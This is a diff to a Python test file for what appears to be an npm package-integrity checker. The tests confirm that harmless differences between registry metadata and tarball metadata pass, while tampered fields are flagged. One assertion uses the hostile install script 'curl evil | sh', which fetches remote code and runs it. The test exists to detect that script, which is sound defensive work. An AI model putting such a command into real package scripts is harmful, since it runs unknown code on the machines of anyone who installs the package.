@@ -66,7 +66,8 @@ def test_npm_normalizations_are_not_mismatches() -> None:
         "version": "1.0.0",
         "bin": "./cli.js",
         "bundledDependencies": ["a"],
-        "dependencies": {"a": "1.0.0"},
+        "dependencies": {"a": "1.0.0", "fsevents": "2"},
+        "optionalDependencies": {"fsevents": "2"},
     }
     published = {
         "name": "@acme/tool",
@@ -74,12 +75,18 @@ def test_npm_normalizations_are_not_mismatches() -> None:
         "bin": {"tool": "cli.js"},
         "bundleDependencies": ["a"],
         "dependencies": {"a": "1.0.0"},
+        "optionalDependencies": {"fsevents": "2"},
         "scripts": {"install": "node-gyp rebuild"},
         "_id": "x",
         "dist": {},
     }
-    assert metadata_mismatches(published, tarball) == []
+    assert metadata_mismatches(published, tarball, frozenset({"binding.gyp"})) == []
+    # the derived install script is accepted only when the tarball really has a binding.gyp
+    assert [m[0] for m in metadata_mismatches(published, tarball)] == ["scripts"]
     assert metadata_mismatches({**published, "scripts": {"install": "curl evil | sh"}}, tarball) != []
+    in_dir = {"name": "t", "version": "1.0.0", "directories": {"bin": "./bin"}}
+    assert metadata_mismatches({**in_dir, "bin": {"t": "bin/t.js"}}, in_dir) == []
+    assert [m[0] for m in metadata_mismatches({**in_dir, "bin": {"t": "lib/evil.js"}}, in_dir)] == ["bin"]
 
 
 def _mutate(doc: dict[str, Any], how: str) -> dict[str, Any]:
